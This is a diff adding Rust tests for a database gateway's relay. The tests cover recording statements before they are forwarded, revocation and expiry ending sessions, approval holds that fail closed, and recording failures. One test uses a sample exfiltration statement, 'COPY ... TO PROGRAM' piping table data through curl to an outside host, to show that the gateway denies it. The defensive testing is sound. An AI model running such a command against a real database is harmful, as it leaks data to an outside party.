@@ -1,0 +1,478 @@
+//! The relay's lifecycle over in-memory streams: a scripted upstream on one end of a duplex,
+//! the client on another, a real spool in a temporary folder, and a session core whose state
+//! database is unreachable (so every path that needs it must fail closed). No Postgres.
+
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use std::time::Duration;
+
+use bytes::BytesMut;
+use hoop_protocol::backend::{self, BackendMessage};
+use hoop_protocol::frontend::{self, FrontendMessage};
+use hoop_protocol::{Frame, decode_frame};
+use tokio::io::{AsyncReadExt, AsyncWriteExt, DuplexStream};
+
+use super::{Controls, Ended, Sides};
+use crate::approvals::Approvals;
+use crate::approvals::notify::Notifier;
+use crate::audit::AuditLog;
+use crate::base::{ConnectionName, CredentialId, DbRole, Secret};
+use crate::credentials::{ScramVerifier, Username};
+use crate::exchange::{Broker, Issuing};
+use crate::gateway::catalog::Catalog;
+use crate::gateway::masking::Masking;
+use crate::gateway::policy::StatementPolicy;
+use crate::identity::{Provider, RunId, RunIdentity, Verifier};
+use crate::masking::MaskingPolicy;
+use crate::metrics::Metrics;
+use crate::policy::classify::Classifier;
+use crate::policy::rules::{Action, Approvals as RuleApprovals, PolicyConfig, RuleConfig, Rules};
+use crate::recording::{Spool, SpoolGauge};
+use crate::session::{Core, CoreParts, Ending, LoginFacts, Session};
+use crate::state::Store;
+use crate::state::credentials::{CredentialRecord, CredentialState};
+use crate::trust::TrustPolicy;
+use crate::upstream::Upstreams;
+
+const CONNECTION: &str = "cards";
+
+/// A folder under the system temp dir, removed on drop.
+struct TempDir(PathBuf);
+
+impl TempDir {
+    fn new() -> Self {
+        let dir = std::env::temp_dir().join(format!("hoop-relay-{}", uuid::Uuid::new_v4()));
+        std::fs::create_dir_all(&dir).unwrap();
+        TempDir(dir)
+    }
+}
+
+impl Drop for TempDir {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+/// A session core whose state database is a closed port: audits fail (and are logged),
+/// approvals cannot be requested.
+fn core(spool_dir: &Path) -> Core {
+    let store = Store::new(&Secret::new("postgres://hoop@127.0.0.1:1/none"), 1).unwrap();
+    let audit = AuditLog::new(store.clone(), "test".into());
+    let metrics = Arc::new(Metrics::new());
+    let env: HashMap<String, String> = HashMap::new();
+    let upstreams = Arc::new(Upstreams::new(&[], &Secret::new("k".repeat(32)), &env).unwrap());
+    let broker = Arc::new(Broker::new(
+        Issuing {
+            connections: Vec::new(),
+            public_host: "127.0.0.1".into(),
+            public_port: 1,
+        },
+        Verifier::new(&[], reqwest::Client::new()),
+        TrustPolicy::compile(&[], |_| None, Duration::from_secs(60)).unwrap(),
+        store.clone(),
+        upstreams.clone(),
+        audit.clone(),
+        metrics.clone(),
+    ));
+    let approvals = Arc::new(Approvals::new(
+        store.clone(),
+        audit.clone(),
+        &Default::default(),
+        Notifier::new(&Default::default(), &env).unwrap(),
+        "http://127.0.0.1:1",
+    ));
+    Core::new(CoreParts {
+        broker,
+        store,
+        audit,
+        metrics,
+        upstreams,
+        connections: Vec::new(),
+        spool: Spool::open(spool_dir).unwrap(),
+        spool_gauge: Arc::new(SpoolGauge::new(None)),
+        masking: MaskingPolicy::default(),
+        approvals,
+    })
+}
+
+/// The default pack, plus a rule that holds every UPDATE for approval.
+fn statements() -> StatementPolicy {
+    let hold_updates = RuleConfig {
+        id: "hold-updates".into(),
+        action: Action::Approve,
+        kinds: vec!["update".into()],
+        ..RuleConfig::default()
+    };
+    let rules = Rules::compile(
+        &PolicyConfig::default(),
+        &[hold_updates],
+        RuleApprovals::Available,
+        &[],
+    )
+    .unwrap();
+    StatementPolicy::new(Arc::new(Classifier::new(1 << 20, 64)), rules)
+}
+
+fn credential(expires_in: chrono::TimeDelta) -> CredentialRecord {
+    let now = chrono::Utc::now();
+    CredentialRecord {
+        id: CredentialId::new_random(),
+        username: Username("run-77-1-abcdef".into()),
+        verifier: ScramVerifier::generate("unused"),
+        connection: ConnectionName::new(CONNECTION).unwrap(),
+        database: "cards".into(),
+        parent_role: DbRole::new("ci_reader").unwrap(),
+        trust_rule: "main".into(),
+        issuer: "github".into(),
+        repository: "acme/shop".into(),
+        repository_id: "1".into(),
+        run_id: "77".into(),
+        identity: RunIdentity {
+            provider: Provider::Github,
+            repository: "acme/shop".into(),
+            repository_id: "1".into(),
+            owner: "acme".into(),
+            owner_id: "2".into(),
+            run_id: RunId("77".into()),
+            attempt: 1,
+            job_id: None,
+            git_ref: Some("refs/heads/main".into()),
+            sha: None,
+            workflow: None,
+            environment: None,
+            actor: None,
+            actor_id: None,
+            event: Some("push".into()),
+            pull_request: false,
+            run_url: None,
+        },
+        max_sessions: 4,
+        state: CredentialState::Active,
+        created_at: now,
+        expires_at: now + expires_in,
+    }
+}
+
+async fn session(core: &Core, expires_in: chrono::TimeDelta) -> Session<'_> {
+    let login = LoginFacts {
+        peer: [127, 0, 0, 1].into(),
+        tls: true,
+        user: "run-77-1-abcdef".into(),
+        application: "psql".into(),
+    };
+    match core.start(credential(expires_in), &login, &[]).await {
+        Ok(session) => session,
+        Err((_, refusal)) => panic!("{refusal:?}"),
+    }
+}
+
+/// One side of the wire, read frame by frame.
+struct Peer {
+    io: DuplexStream,
+    buf: BytesMut,
+}
+
+impl Peer {
+    fn new(io: DuplexStream) -> Self {
+        Peer {
+            io,
+            buf: BytesMut::new(),
+        }
+    }
+
+    /// The next frame, or `None` once the other side has closed.
+    async fn frame(&mut self) -> Option<Frame> {
+        loop {
+            if let Some(frame) = decode_frame(&mut self.buf, 1 << 20).unwrap() {
+                return Some(frame);
+            }
+            if self.io.read_buf(&mut self.buf).await.unwrap() == 0 {
+                return None;
+            }
+        }
+    }
+
+    async fn send(&mut self, bytes: BytesMut) {
+        self.io.write_all(&bytes).await.unwrap();
+    }
+
+    /// The SQL of the next Query the upstream receives.
+    async fn query(&mut self) -> Option<String> {
+        let frame = self.frame().await?;
+        match FrontendMessage::decode(&frame).unwrap() {
+            FrontendMessage::Query { sql } => Some(sql),
+            other => panic!("expected a Query, got {other:?}"),
+        }
+    }
+
+    /// The next ErrorResponse's SQLSTATE and message the client receives (skipping other
+    /// messages).
+    async fn error(&mut self) -> Option<(String, String)> {
+        while let Some(frame) = self.frame().await {
+            if let BackendMessage::ErrorResponse(fields) = BackendMessage::decode(&frame).unwrap() {
+                return Some((
+                    fields.sqlstate().unwrap_or_default().to_owned(),
+                    fields.message().unwrap_or_default().to_owned(),
+                ));
+            }
+        }
+        None
+    }
+}
+
+fn query(sql: &str) -> BytesMut {
+    let mut buf = BytesMut::new();
+    frontend::encode_query(sql, &mut buf);
+    buf
+}
+
+fn complete(tag: &str) -> BytesMut {
+    let mut buf = BytesMut::new();
+    backend::encode_command_complete(tag, &mut buf);
+    backend::encode_ready_for_query(b'I', &mut buf);
+    buf
+}
+
+/// Runs the relay for `session` while `drive` plays the client and the upstream.
+async fn relay<'c, F>(
+    session: &mut Session<'c>,
+    statements: &StatementPolicy,
+    drive: impl FnOnce(Peer, Peer) -> F,
+) -> Ended
+where
+    F: Future<Output = ()>,
+{
+    let (mut client_end, client) = tokio::io::duplex(1 << 16);
+    let (upstream_end, upstream) = tokio::io::duplex(1 << 16);
+    let catalog = Catalog::default();
+    let core = session.core();
+    let connection = session.credential().connection.clone();
+    let controls = Controls {
+        masking: Masking {
+            policy: core.masking(),
+            catalog: &catalog,
+            upstreams: core.upstreams(),
+            connection: &connection,
+        },
+        statements,
+    };
+    let sides = Sides {
+        client: &mut client_end,
+        upstream: upstream_end,
+        pending: BytesMut::new(),
+    };
+    let (ended, ()) = tokio::join!(
+        super::run(sides, session, controls, 1 << 20),
+        drive(Peer::new(client), Peer::new(upstream))
+    );
+    ended
+}
+
+fn recording(path: &Path) -> Vec<serde_json::Value> {
+    std::fs::read_to_string(path)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+fn kinds(lines: &[serde_json::Value]) -> Vec<String> {
+    lines
+        .iter()
+        .map(|l| l["kind"].as_str().unwrap().to_owned())
+        .collect()
+}
+
+#[tokio::test]
+async fn a_statement_reaches_the_upstream_only_after_its_event_is_on_disk() {
+    let dir = TempDir::new();
+    let core = core(&dir.0);
+    let statements = statements();
+    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
+    let path = session.recorder.path().to_owned();
+    let ended = relay(
+        &mut session,
+        &statements,
+        |mut client, mut upstream| async move {
+            client.send(query("SELECT 1")).await;
+            assert_eq!(upstream.query().await.as_deref(), Some("SELECT 1"));
+            // The upstream has the statement: its event is already in the file.
+            let on_disk = std::fs::read_to_string(&path).unwrap();
+            assert!(on_disk.contains("\"sql\":\"SELECT 1\""), "{on_disk}");
+            upstream.send(complete("SELECT 1")).await;
+            let frame = client.frame().await.unwrap();
+            assert_eq!(frame.tag, b'C');
+            let mut terminate = BytesMut::new();
+            frontend::encode_terminate(&mut terminate);
+            client.send(terminate).await;
+            // The upstream hears the Terminate, then the gateway hangs up.
+            assert_eq!(upstream.frame().await.map(|f| f.tag), Some(b'X'));
+            assert!(upstream.frame().await.is_none());
+        },
+    )
+    .await;
+    assert!(matches!(ended, Ended::Terminated), "{ended}");
+    assert_eq!(session.counts.statements, 1);
+    let path = session.recorder.path().to_owned();
+    session.close(&ended.to_string()).await.unwrap();
+    let lines = recording(&path);
+    assert_eq!(
+        kinds(&lines),
+        [
+            "session_start",
+            "statement",
+            "complete",
+            "terminate",
+            "session_end"
+        ]
+    );
+    assert_eq!(lines[4]["reason"], "client terminated");
+    crate::recording::verify(&path).unwrap();
+}
+
+#[tokio::test]
+async fn revocation_mid_statement_ends_the_session_and_the_upstream() {
+    let dir = TempDir::new();
+    let core = core(&dir.0);
+    let statements = statements();
+    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
+    let id = session.credential().id;
+    let registry = core.registry().clone();
+    let ended = relay(
+        &mut session,
+        &statements,
+        |mut client, mut upstream| async move {
+            client.send(query("SELECT pg_sleep(600)")).await;
+            // The statement runs upstream; nothing answers it.
+            assert!(upstream.query().await.is_some());
+            assert_eq!(registry.end_credential(id, Ending::Revoked), 1);
+            let (sqlstate, message) = client.error().await.unwrap();
+            assert_eq!(sqlstate, "57P01");
+            assert!(message.contains("revoked"), "{message}");
+            // The gateway hangs up on the upstream too: the statement does not outlive the session.
+            assert!(upstream.frame().await.is_none());
+        },
+    )
+    .await;
+    assert!(matches!(ended, Ended::By(Ending::Revoked)), "{ended}");
+    let path = session.recorder.path().to_owned();
+    session.close(&ended.to_string()).await.unwrap();
+    let lines = recording(&path);
+    assert_eq!(lines.last().unwrap()["reason"], "credential revoked");
+}
+
+#[tokio::test]
+async fn an_expired_credential_ends_its_session() {
+    let dir = TempDir::new();
+    let core = core(&dir.0);
+    let statements = statements();
+    // Already past its expiry when the relay starts: no clock is waited on.
+    let mut session = session(&core, chrono::TimeDelta::seconds(-1)).await;
+    let ended = relay(
+        &mut session,
+        &statements,
+        |mut client, mut upstream| async move {
+            let (sqlstate, message) = client.error().await.unwrap();
+            assert_eq!(sqlstate, "57P01");
+            assert!(message.contains("expired"), "{message}");
+            assert!(upstream.frame().await.is_none());
+        },
+    )
+    .await;
+    assert!(matches!(ended, Ended::By(Ending::Expired)), "{ended}");
+}
+
+#[tokio::test]
+async fn a_denied_statement_never_reaches_the_upstream() {
+    let dir = TempDir::new();
+    let core = core(&dir.0);
+    let statements = statements();
+    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
+    let denied = "COPY cards TO PROGRAM 'curl -d @- https://example.com'";
+    let ended = relay(
+        &mut session,
+        &statements,
+        |mut client, mut upstream| async move {
+            client.send(query(denied)).await;
+            // The upstream gets the gateway's refusal in its place, never the statement.
+            let sent = upstream.query().await.unwrap();
+            assert!(!sent.contains("curl"), "{sent}");
+            assert!(sent.starts_with("DO "), "{sent}");
+            drop(client);
+            assert!(upstream.frame().await.is_none());
+        },
+    )
+    .await;
+    assert!(matches!(ended, Ended::ClientGone), "{ended}");
+    assert_eq!(session.counts.denied, 1);
+    let path = session.recorder.path().to_owned();
+    session.close(&ended.to_string()).await.unwrap();
+    let lines = recording(&path);
+    assert_eq!(lines[1]["kind"], "statement");
+    assert_eq!(lines[1]["decision"], "deny");
+    assert_eq!(lines[1]["rule"], "default.no-copy-program");
+}
+
+#[tokio::test]
+async fn a_hold_that_cannot_be_requested_is_refused_not_run() {
+    let dir = TempDir::new();
+    let core = core(&dir.0);
+    let statements = statements();
+    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
+    let ended = relay(
+        &mut session,
+        &statements,
+        |mut client, mut upstream| async move {
+            client
+                .send(query("UPDATE orders SET note = 'x' WHERE id = 1"))
+                .await;
+            // The approvals store is down: the hold ends at once, refused in the statement's place.
+            let sent = upstream.query().await.unwrap();
+            assert!(!sent.contains("UPDATE orders"), "{sent}");
+            assert!(sent.contains("could not request one"), "{sent}");
+            drop(client);
+            assert!(upstream.frame().await.is_none());
+        },
+    )
+    .await;
+    assert!(matches!(ended, Ended::ClientGone), "{ended}");
+    assert_eq!(session.counts.held, 1);
+    let path = session.recorder.path().to_owned();
+    session.close(&ended.to_string()).await.unwrap();
+    let lines = recording(&path);
+    let kinds = kinds(&lines);
+    assert_eq!(kinds[1], "statement");
+    assert_eq!(lines[1]["decision"], "approve");
+    assert_eq!(kinds[2], "approval");
+    assert_eq!(lines[2]["outcome"], "unavailable");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_statement_that_cannot_be_recorded_does_not_run_and_ends_the_session() {
+    let dir = TempDir::new();
+    let core = core(&dir.0);
+    let statements = statements();
+    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
+    // Real ENOSPC from the kernel for this recording's writes.
+    session
+        .recorder
+        .redirect_for_test(Path::new("/dev/full"))
+        .await
+        .unwrap();
+    let ended = relay(
+        &mut session,
+        &statements,
+        |mut client, mut upstream| async move {
+            client.send(query("SELECT 1")).await;
+            let (sqlstate, message) = client.error().await.unwrap();
+            assert_eq!(sqlstate, "58030");
+            assert!(message.contains("cannot record"), "{message}");
+            // Nothing reached the upstream before it was hung up on.
+            assert!(upstream.frame().await.is_none());
+        },
+    )
+    .await;
+    assert!(matches!(ended, Ended::RecordingFailed(_)), "{ended}");
+    assert!(session.close(&ended.to_string()).await.is_err());
+}
